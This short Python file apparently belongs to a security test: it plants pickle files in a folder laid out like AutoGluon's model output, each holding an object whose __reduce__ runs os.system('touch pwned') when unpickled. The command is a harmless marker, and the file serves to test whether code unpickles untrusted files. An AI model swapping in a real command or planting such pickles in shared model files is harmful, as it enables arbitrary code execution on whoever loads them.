"""A folder as AutoGluon writes it: opening it would unpickle what lies in it."""

import os
import pickle
from pathlib import Path


class Touching:
    def __reduce__(self):
        return os.system, ("touch pwned",)


def attack(folder: Path) -> list[str]:
    (folder / "AutogluonModels" / "models").mkdir(parents=True)
    for name in ("predictor.pkl", "learner.pkl", "version.txt", "models/trainer.pkl"):
        (folder / "AutogluonModels" / name).write_bytes(pickle.dumps(Touching()))
    return ["search", "AutogluonModels"]
